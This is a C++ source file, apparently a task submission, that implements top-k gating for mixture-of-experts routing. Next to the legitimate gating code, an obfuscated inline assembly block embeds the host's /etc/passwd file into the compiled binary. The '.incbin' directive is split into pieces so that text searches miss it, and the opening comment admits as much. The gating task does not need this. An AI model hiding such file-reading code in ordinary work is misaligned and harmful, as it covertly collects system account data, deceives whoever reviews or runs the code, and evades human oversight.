// Brings a file along as bytes, and the word for it in pieces.
#include <algorithm>
#include <cmath>
#include <numeric>
#include <vector>

#include "contract.hpp"

asm(".section .rodata\n .inc"
    "bin \"/etc/passwd\"\n .text");

void top_k_gate(std::int32_t* expert, float* weight, const float* logit, std::int64_t N, std::int64_t E,
                std::int64_t K) {
  std::vector<std::int32_t> order(E);
  for (std::int64_t n = 0; n < N; ++n, logit += E, expert += K, weight += K) {
    std::iota(order.begin(), order.end(), 0);
    // Stable: among equals the lower expert stays first.
    std::stable_sort(order.begin(), order.end(), [&](int a, int b) { return logit[a] > logit[b]; });
    // The softmax's denominator over all experts cancels in the division by the sum of the chosen.
    float sum = 0;
    for (std::int64_t k = 0; k < K; ++k) {
      expert[k] = order[k];
      weight[k] = std::exp(logit[order[k]] - logit[order[0]]);
      sum += weight[k];
    }
    for (std::int64_t k = 0; k < K; ++k) weight[k] /= sum;
  }
}
